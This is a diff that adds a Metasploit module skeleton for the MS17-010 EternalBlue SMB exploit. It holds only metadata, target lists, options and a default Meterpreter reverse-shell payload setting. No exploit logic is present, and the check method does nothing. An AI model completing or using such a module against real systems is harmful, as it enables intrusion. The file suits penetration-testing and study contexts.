@@ -0,0 +1,84 @@
+##
+# This module requires Metasploit: https://metasploit.com/download
+# Current source: https://github.com/rapid7/metasploit-framework
+##
+
+class MetasploitModule < Msf::Exploit::Remote
+  Rank = AverageRanking
+
+  include Msf::Exploit::Remote::SMB::Client::Psexec
+  include Msf::Exploit::Remote::CheckModule
+
+  def initialize(info = {})
+    super(
+      update_info(
+        info,
+        'Name' => 'MS17-010 EternalBlue SMB Remote Windows Kernel Pool Corruption',
+        'Description' => %q{
+          This module is a port of the Equation Group ETERNALBLUE exploit, part of
+          the FuzzBunch toolkit released by Shadow Brokers.
+        },
+        'Author' => [
+          'Equation Group', # OG research and exploit
+          'Shadow Brokers', # Hack the planet
+          'sleepya', # Research and PoC
+        ],
+        'License' => MSF_LICENSE,
+        'References' => [
+          ['MSB', 'MS17-010'],
+          ['CVE', '2017-0143'],
+          ['CVE', '2017-0144'],
+          ['URL', 'https://github.com/RiskSense-Ops/MS17-010']
+        ],
+        'DefaultOptions' => {
+          'CheckModule' => 'auxiliary/scanner/smb/smb_ms17_010',
+          'EXITFUNC' => 'thread',
+          'PAYLOAD' => 'windows/x64/meterpreter/reverse_tcp'
+        },
+        'Platform' => 'win',
+        'Arch' => [ARCH_X64],
+        'Targets' => [
+          [ 'Automatic Target', {} ],
+          [
+            'Windows 7',
+            {
+              'os_patterns' => ['Windows 7']
+            }
+          ],
+          [
+            'Windows Embedded Standard 7',
+            {
+              'os_patterns' => ['Windows Embedded Standard 7']
+            }
+          ],
+        ],
+        'DefaultTarget' => 0,
+        'DisclosureDate' => 'Mar 14 2017',
+        'Notes' => {
+          'AKA' => ['ETERNALBLUE'],
+          'Stability' => [CRASH_OS_RESTARTS],
+          'Reliability' => [REPEATABLE_SESSION],
+          'SideEffects' => [IOC_IN_LOGS]
+        }
+      )
+    )
+
+    register_options(
+      [
+        Opt::RHOSTS,
+        Opt::RPORT(445),
+        OptString.new('SMBUser', [false, '(Optional) The username to authenticate as', '']),
+        OptString.new('SMBPass', [false, '(Optional) The password for the specified username', '']),
+        OptString.new('SMBDomain', [false, '(Optional) The Windows domain to use for authentication. Only affects Windows Server 2008 R2, Windows 7, Windows Embedded Standard 7 target machines.', '']),
+        OptBool.new('VERIFY_TARGET', [true, 'Check if remote OS matches exploit Target. Only affects Windows Server 2008 R2, Windows 7, Windows Embedded Standard 7 target machines.', true]),
+        OptBool.new('VERIFY_ARCH', [true, 'Check if remote architecture matches exploit Target. Only affects Windows Server 2008 R2, Windows 7, Windows Embedded Standard 7 target machines.', true])
+      ]
+    )
+    deregister_options('SMB::ProtocolVersion')
+  end
+
+  def check
+    check_code = Exploit::CheckCode::Unknown
+    check_code
+  end
+end